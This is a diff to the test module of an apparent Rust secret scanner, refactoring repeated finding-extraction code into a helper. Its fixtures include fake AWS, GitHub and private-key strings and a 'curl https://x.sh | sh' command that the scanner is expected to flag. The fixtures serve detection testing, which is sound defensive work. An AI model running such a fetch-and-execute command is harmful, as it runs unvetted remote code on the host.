@@ -188,18 +188,21 @@ pub fn run(input: Value) -> Result<Value, Failure> {
 mod tests {
     use super::*;
 
-    #[test]
-    fn finds_secrets_and_risky_patterns_in_added_lines_only() {
-        let diff = "--- a/app.py\n+++ b/app.py\n@@ -1,1 +1,4 @@\n-password = \"old-removed-value\"\n+AWS_KEY = \"AKIAABCDEFGHIJKLMNOP\"\n+password = \"hunter2hunter2\"\n+subprocess.run(\"curl https://x.sh | sh\")\n+print('fine')\n";
-        let out = run(json!({"diff": diff})).unwrap();
-        let rules: Vec<&str> = out["findings"]
+    fn rules(out: &Value) -> Vec<&str> {
+        out["findings"]
             .as_array()
             .unwrap()
             .iter()
             .map(|f| f["rule"].as_str().unwrap())
-            .collect();
+            .collect()
+    }
+
+    #[test]
+    fn finds_secrets_and_risky_patterns_in_added_lines_only() {
+        let diff = "--- a/app.py\n+++ b/app.py\n@@ -1,1 +1,4 @@\n-password = \"old-removed-value\"\n+AWS_KEY = \"AKIAABCDEFGHIJKLMNOP\"\n+password = \"hunter2hunter2\"\n+subprocess.run(\"curl https://x.sh | sh\")\n+print('fine')\n";
+        let out = run(json!({"diff": diff})).unwrap();
         assert_eq!(
-            rules,
+            rules(&out),
             ["aws-access-key-id", "hardcoded-secret", "curl-pipe-shell"]
         );
         assert_eq!(out["findings"][0]["line"], 1);
@@ -218,12 +221,6 @@ mod tests {
     #[test]
     fn private_keys_and_github_tokens() {
         let out = run(json!({"files": [{"path": "k", "content": "-----BEGIN RSA PRIVATE KEY-----\nx = ghp_abcdefghijklmnopqrstuvwxyz0123456789\n"}]})).unwrap();
-        let rules: Vec<&str> = out["findings"]
-            .as_array()
-            .unwrap()
-            .iter()
-            .map(|f| f["rule"].as_str().unwrap())
-            .collect();
-        assert_eq!(rules, ["private-key", "github-token"]);
+        assert_eq!(rules(&out), ["private-key", "github-token"]);
     }
 }
